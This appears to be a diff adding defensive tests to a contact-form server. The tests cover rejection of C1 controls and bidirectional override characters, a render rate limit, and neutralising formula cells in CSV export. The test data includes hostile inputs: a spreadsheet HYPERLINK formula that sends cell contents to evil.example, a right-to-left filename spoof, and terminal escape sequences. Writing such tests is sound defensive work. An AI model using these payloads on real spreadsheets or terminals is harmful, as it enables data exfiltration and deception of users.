@@ -11,7 +11,7 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { openMessageLedger } from '../../server/forms/contact/message-ledger';
+import { openMessageLedger, recordMessage } from '../../server/forms/contact/message-ledger';
 import type { MessageEntry } from '../../server/forms/contact/message-ledger';
 import { contactApiMessages } from '../../server/forms/contact/contact-handler';
 import { contactMessages } from '../../shared/rules/contact-message';
@@ -197,6 +197,13 @@ describe('bad input gets a 400 naming each field', () => {
     ['a name that is a number', { name: 42 }, 'name', contactMessages.notText],
     ['a message that is a list', { message: ['a', 'b'] }, 'message', contactMessages.notText],
     ['an escape character in the message', { message: 'Hello \u001b[31mred\u001b[0m world' }, 'message', contactMessages.controlCharacters],
+    // C1 controls (a terminal reads U+009B as ESC [) and the characters that make text read in another direction.
+    ['a C1 control in the name', { name: 'Dana\u009b2J' }, 'name', contactMessages.controlCharacters],
+    ['a C1 control in the message', { message: 'Hello \u009b31mred\u009b0m world' }, 'message', contactMessages.controlCharacters],
+    ['a right-to-left override in the name', { name: 'Dana \u202egnp.exe' }, 'name', contactMessages.controlCharacters],
+    ['a left-to-right embedding in the firm', { company: '\u202aAcme\u202c' }, 'company', contactMessages.controlCharacters],
+    ['an isolate in the message', { message: 'Please call \u2067Dana\u2069 back tomorrow.' }, 'message', contactMessages.controlCharacters],
+    ['a first-strong isolate in the topic', { topic: '\u2068iar' }, 'topic', contactMessages.controlCharacters],
   ])('%s', async (_what, change, field, error) => {
     const answer = await post({ ...VALID, ...change });
     expect(answer.status).toBe(400);
@@ -298,6 +305,24 @@ describe('the rate limit (CONTACT_RATE_LIMIT per hour)', () => {
     expect(form.text).toContain(contactApiMessages.rateLimited);
     expect(form.text).toContain(`value="${VALID.name}"`);
     expect(await entries()).toHaveLength(2);
+  });
+});
+
+describe('refused posts from one client', () => {
+  const sentBack = (message = 'short') => post({ ...VALID, message }, { path: '/contact', type: 'application/x-www-form-urlencoded' });
+
+  it('are pages made per request: past the client’s render budget (RENDER_RATE_LIMIT), a 429 in words, Retry-After', async () => {
+    // In production (pages are admitted there), a burst of two pages made for one client, and one more a second.
+    server = await start({ NODE_ENV: 'production', CONTACT_RATE_LIMIT: '0', RENDER_RATE_LIMIT: '1' });
+    const answers = [await sentBack(), await sentBack(), await sentBack()];
+    expect(answers.map((answer) => answer.status)).toEqual([400, 400, 429]);
+    // A person's form sent back: the page again, with what they typed and what to correct.
+    expect(answers[0]!.text).toContain(`value="${VALID.name}"`);
+    expect(answers[0]!.text).toContain(contactMessages.messageTooShort);
+    expect(answers[2]!.text).toBe(contactApiMessages.formRefused);
+    expect(Number(answers[2]!.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
+    // What costs no render is not refused: the JSON API still says what to correct.
+    expect((await post({ ...VALID, message: 'short' })).status).toBe(400);
   });
 });
 
@@ -434,6 +459,33 @@ describe('npm run messages', () => {
     // Erased, not flagged: the words are gone from the file.
     expect(await readFile(file, 'utf8')).not.toContain('CPA firm');
     expect((await cli('list')).stdout).toMatch(/^removed\s+3/m);
+  });
+
+  it('exports a cell a spreadsheet would run as a formula as text, and shows stored control characters escaped', async () => {
+    server = await start({}, false);
+    const formulas = {
+      ...VALID,
+      name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+      company: '@SUM(1+1)',
+      phone: '+1 555 0100',
+      message: '-2+3 is what I would like to discuss with you.',
+    };
+    expect((await post(formulas)).status).toBe(200);
+    const csv = (await cli('export', '--csv')).stdout.split('\n')[1]!;
+    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",`);
+    expect(csv).toContain(`,'@SUM(1+1),'+1 555 0100,`);
+    expect(csv).toMatch(/,'-2\+3 is what I would like to discuss with you\.$/);
+    for (const cell of csv.split(',')) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
+
+    // A message kept before the form refused control characters (or written by another tool) still holds them.
+    const ledger = openMessageLedger({ file, logger: capturingLogger('silent').logger });
+    const kept = await recordMessage(ledger, { ...VALID, name: 'Dana \u202eevil\u202c', message: 'Hello \u001b[2J\u009b31m world.\nBye.' });
+    const show = (await cli('show', kept.id)).stdout;
+    expect(show).toContain('Name:     Dana \\u202eevil\\u202c');
+    expect(show).toContain('Hello \\u001b[2J\\u009b31m world.\nBye.');
+    const list = (await cli('list')).stdout;
+    expect(list).toContain('Hello \\u001b[2J\\u009b31m world. Bye.');
+    for (const char of ['\u001b', '\u009b', '\u202e', '\u202c']) expect(`${show}${list}`).not.toContain(char);
   });
 
   it('answers bad usage with the usage text and exit code 2, an unknown id with exit code 1', async () => {
